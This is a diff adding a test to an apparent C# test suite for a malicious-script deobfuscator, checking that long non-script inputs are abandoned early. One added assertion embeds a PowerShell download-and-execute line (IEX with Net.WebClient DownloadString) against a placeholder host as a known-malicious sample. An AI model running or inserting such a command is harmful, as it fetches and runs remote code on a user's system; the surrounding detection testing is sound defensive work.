@@ -37,6 +37,18 @@ public sealed class HostileScriptTests
     [MemberData(nameof(Scripts))]
     public void Any_script_ends_in_an_answer(string script) => Assert.NotNull(Deobfuscator.Judge(script).Text);
 
+    [Theory]
+    [InlineData("{\"a\": [1,2,3], \"b\": {\"c\": \"d\"}},\n")]
+    [InlineData("<div class=\"a\"><p>Hello, <b>world</b> & more</p></div>\n")]
+    [InlineData("x).Value)))\n")]
+    [InlineData("if ( | } else ) foreach in { ,\n")]
+    public void What_is_no_script_at_all_is_given_up_early(string line)
+    {
+        var text = string.Concat(Enumerable.Repeat(line, 20_000));
+        Assert.Contains(Deobfuscator.Judge(text).Bounds, bound => bound.Contains("errors of syntax", StringComparison.Ordinal));
+        Assert.True(Deobfuscator.Judge("IEX (New-Object Net.WebClient).DownloadString('http://a.example/b')\n" + text).Malicious);
+    }
+
     [Fact]
     public void A_bound_that_was_reached_is_named()
     {
